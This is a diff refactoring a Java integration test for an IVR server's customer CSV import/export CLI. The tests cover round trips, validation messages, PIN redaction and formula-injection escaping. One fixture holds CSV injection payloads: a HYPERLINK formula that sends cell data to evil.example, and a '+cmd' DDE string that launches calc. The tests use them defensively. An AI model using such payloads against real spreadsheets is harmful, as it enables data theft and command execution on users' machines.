@@ -1,22 +1,16 @@
 package dev.ivr.server.cli;
 
-import ch.qos.logback.classic.Level;
-import ch.qos.logback.classic.Logger;
 import dev.ivr.server.crm.pin.PinPepper;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVParser;
-import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.RegisterExtension;
 import org.junit.jupiter.api.io.TempDir;
-import org.slf4j.LoggerFactory;
-import picocli.CommandLine;
 
 import java.io.ByteArrayOutputStream;
 import java.io.PrintStream;
-import java.io.PrintWriter;
-import java.io.StringWriter;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -32,9 +26,8 @@ class CustomerCliIT {
     @TempDir
     Path dir;
     Path config;
-    StringWriter out;
-    StringWriter err;
-    Level rootLevel;
+    @RegisterExtension
+    final CliRunner cli = new CliRunner();
 
     @BeforeEach
     void setUp() throws Exception {
@@ -45,37 +38,18 @@ class CustomerCliIT {
                 crm:
                   pin-hash: {memory: 1024, iterations: 1, parallelism: 1}
                 """.formatted(dir.resolve("data")));
-        rootLevel = root().getLevel();
-    }
-
-    @AfterEach
-    void restoreLogging() {
-        root().setLevel(rootLevel); // the commands quieten the server's logs
-    }
-
-    private static Logger root() {
-        return (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
-    }
-
-    int run(String... args) {
-        out = new StringWriter();
-        err = new StringWriter();
-        CommandLine cl = new CommandLine(new IvrCli());
-        cl.setOut(new PrintWriter(out, true));
-        cl.setErr(new PrintWriter(err, true));
-        return cl.execute(args);
     }
 
     @Test
     void theSampleImportsExportsAndImportsAgain() throws Exception {
-        assertThat(run("import-customers", "-c", config.toString(), SAMPLE.toString())).as(err.toString()).isZero();
-        assertThat(out.toString()).contains("imported 12 customer(s)").contains("12 new, 0 updated");
-        assertThat(out.toString() + err).doesNotContain("1234,").doesNotContain("argon2");
+        assertThat(cli.run("import-customers", "-c", config.toString(), SAMPLE.toString())).as(cli.err()).isZero();
+        assertThat(cli.out()).contains("imported 12 customer(s)").contains("12 new, 0 updated");
+        assertThat(cli.out() + cli.err()).doesNotContain("1234,").doesNotContain("argon2");
 
         Path export = dir.resolve("export.csv");
-        assertThat(run("export-customers", "-c", config.toString(), "--with-pin-hashes", export.toString()))
-                .as(err.toString()).isZero();
-        assertThat(err.toString()).contains("exported 12 customer(s) to " + export);
+        assertThat(cli.run("export-customers", "-c", config.toString(), "--with-pin-hashes", export.toString()))
+                .as(cli.err()).isZero();
+        assertThat(cli.err()).contains("exported 12 customer(s) to " + export);
         String csv = Files.readString(export);
         assertThat(csv).startsWith("id,first_name,last_name,language,tier,phones,accounts,statuses,pin_hashes,"
                 + "attr.balance_band,attr.open_ticket,attr.segment\n");
@@ -88,9 +62,9 @@ class CustomerCliIT {
         assertThat(csv).contains("C1010,Péter,Kiss,hu,standard,'+3615550110,10011,blocked,");
         assertThat(csv.lines()).hasSize(13);
 
-        assertThat(run("import-customers", "-c", config.toString(), export.toString())).as(err.toString()).isZero();
-        assertThat(out.toString()).contains("0 new, 12 updated");
-        assertThat(run("export-customers", "-c", config.toString(), "--with-pin-hashes", dir.resolve("again.csv").toString()))
+        assertThat(cli.run("import-customers", "-c", config.toString(), export.toString())).as(cli.err()).isZero();
+        assertThat(cli.out()).contains("0 new, 12 updated");
+        assertThat(cli.run("export-customers", "-c", config.toString(), "--with-pin-hashes", dir.resolve("again.csv").toString()))
                 .isZero();
         assertThat(Files.readString(dir.resolve("again.csv"))).as("the round trip changes nothing").isEqualTo(csv);
     }
@@ -102,9 +76,9 @@ class CustomerCliIT {
                 id,first_name,last_name,tier,attr.note
                 C1,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",@SUM(1+1),-1,"+cmd|' /C calc'!A0"
                 """);
-        assertThat(run("import-customers", "-c", config.toString(), in.toString())).as(out + " " + err).isZero();
+        assertThat(cli.run("import-customers", "-c", config.toString(), in.toString())).as(cli.out() + " " + cli.err()).isZero();
         Path export = dir.resolve("export.csv");
-        assertThat(run("export-customers", "-c", config.toString(), export.toString())).isZero();
+        assertThat(cli.run("export-customers", "-c", config.toString(), export.toString())).isZero();
         List<String> cells;
         try (CSVParser p = CSVFormat.DEFAULT.parse(Files.newBufferedReader(export))) {
             cells = p.getRecords().get(1).toList();
@@ -114,8 +88,8 @@ class CustomerCliIT {
         assertThat(cells).allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+")
                 .doesNotStartWith("-").doesNotStartWith("@"));
         // imported again, every value is what it was
-        assertThat(run("import-customers", "-c", config.toString(), export.toString())).isZero();
-        assertThat(run("export-customers", "-c", config.toString(), dir.resolve("again.csv").toString())).isZero();
+        assertThat(cli.run("import-customers", "-c", config.toString(), export.toString())).isZero();
+        assertThat(cli.run("export-customers", "-c", config.toString(), dir.resolve("again.csv").toString())).isZero();
         assertThat(Files.readString(dir.resolve("again.csv"))).isEqualTo(Files.readString(export));
         assertThat(Files.readString(export)).contains("'=HYPERLINK(").contains("'@SUM(1+1)").contains("'-1")
                 .contains("'+cmd|");
@@ -130,15 +104,15 @@ class CustomerCliIT {
                 C2,Bela,call me,10002,12
                 C3,Cili,+36 1 234 5679,10003,4321
                 """);
-        assertThat(run("import-customers", "-c", config.toString(), bad.toString())).isEqualTo(1);
-        assertThat(out.toString()).contains(bad + ": line 3: phones: entry 1 'call me' is not a phone number")
+        assertThat(cli.run("import-customers", "-c", config.toString(), bad.toString())).isEqualTo(1);
+        assertThat(cli.out()).contains(bad + ": line 3: phones: entry 1 'call me' is not a phone number")
                 .contains("pins: entry 1 must be 4 to 16 digits")
                 .contains("nothing imported: 1 row(s) rejected (fix them, or use --skip-invalid to import the 2 valid row(s))");
-        assertThat(out.toString()).doesNotContain(",12");
+        assertThat(cli.out()).doesNotContain(",12");
 
-        assertThat(run("import-customers", "-c", config.toString(), "--dry-run", SAMPLE.toString())).isZero();
-        assertThat(out.toString()).contains("dry run: 12 record(s) read, 12 valid (12 new, 0 updated), 0 rejected");
-        assertThat(run("export-customers", "-c", config.toString(), dir.resolve("empty.csv").toString())).isZero();
+        assertThat(cli.run("import-customers", "-c", config.toString(), "--dry-run", SAMPLE.toString())).isZero();
+        assertThat(cli.out()).contains("dry run: 12 record(s) read, 12 valid (12 new, 0 updated), 0 rejected");
+        assertThat(cli.run("export-customers", "-c", config.toString(), dir.resolve("empty.csv").toString())).isZero();
         assertThat(Files.readString(dir.resolve("empty.csv")).lines()).as("nothing was imported").hasSize(1);
 
         // columns shifted (pins and statuses swapped): the PINs are not in the messages
@@ -148,15 +122,15 @@ class CustomerCliIT {
                 C1,10001,active,2468
                 C2,10002;10003,active;active,1357;9753
                 """);
-        assertThat(run("import-customers", "-c", config.toString(), shifted.toString())).isEqualTo(1);
-        assertThat(out.toString()).contains("line 2: ").doesNotContain("2468").doesNotContain("1357").doesNotContain("9753");
+        assertThat(cli.run("import-customers", "-c", config.toString(), shifted.toString())).isEqualTo(1);
+        assertThat(cli.out()).contains("line 2: ").doesNotContain("2468").doesNotContain("1357").doesNotContain("9753");
         Path headless = dir.resolve("headless.csv");
         Files.writeString(headless, "C1,Anna,10001,2468\n");
-        assertThat(run("import-customers", "-c", config.toString(), headless.toString())).isEqualTo(1);
-        assertThat(out.toString() + err).contains("is the header row missing?").doesNotContain("2468");
+        assertThat(cli.run("import-customers", "-c", config.toString(), headless.toString())).isEqualTo(1);
+        assertThat(cli.out() + cli.err()).contains("is the header row missing?").doesNotContain("2468");
 
-        assertThat(run("import-customers", "-c", config.toString(), "--skip-invalid", bad.toString())).isZero();
-        assertThat(out.toString()).contains("imported 2 customer(s)").contains("1 row(s) rejected and skipped");
+        assertThat(cli.run("import-customers", "-c", config.toString(), "--skip-invalid", bad.toString())).isZero();
+        assertThat(cli.out()).contains("imported 2 customer(s)").contains("1 row(s) rejected and skipped");
     }
 
     @Test
@@ -171,19 +145,19 @@ class CustomerCliIT {
         ByteArrayOutputStream captured = new ByteArrayOutputStream();
         System.setErr(new PrintStream(captured, true, StandardCharsets.UTF_8));
         try {
-            assertThat(run("import-customers", "-c", config.toString(), big.toString())).as(err.toString()).isZero();
+            assertThat(cli.run("import-customers", "-c", config.toString(), big.toString())).as(cli.err()).isZero();
         } finally {
             System.setErr(stderr);
         }
-        assertThat(out.toString()).contains("imported 2500 customer(s)");
+        assertThat(cli.out()).contains("imported 2500 customer(s)");
         assertThat(captured.toString(StandardCharsets.UTF_8)).contains("Importing").contains("100%").contains("2500/2500");
     }
 
     @Test
     void badUsageIsExplained() {
-        assertThat(run("import-customers", "-c", config.toString(), dir.resolve("missing.csv").toString())).isEqualTo(2);
-        assertThat(err.toString()).contains("missing.csv: no such file");
-        assertThat(run("import-customers")).isEqualTo(2);
-        assertThat(err.toString()).contains("Missing required parameter: 'FILE.csv'");
+        assertThat(cli.run("import-customers", "-c", config.toString(), dir.resolve("missing.csv").toString())).isEqualTo(2);
+        assertThat(cli.err()).contains("missing.csv: no such file");
+        assertThat(cli.run("import-customers")).isEqualTo(2);
+        assertThat(cli.err()).contains("Missing required parameter: 'FILE.csv'");
     }
 }
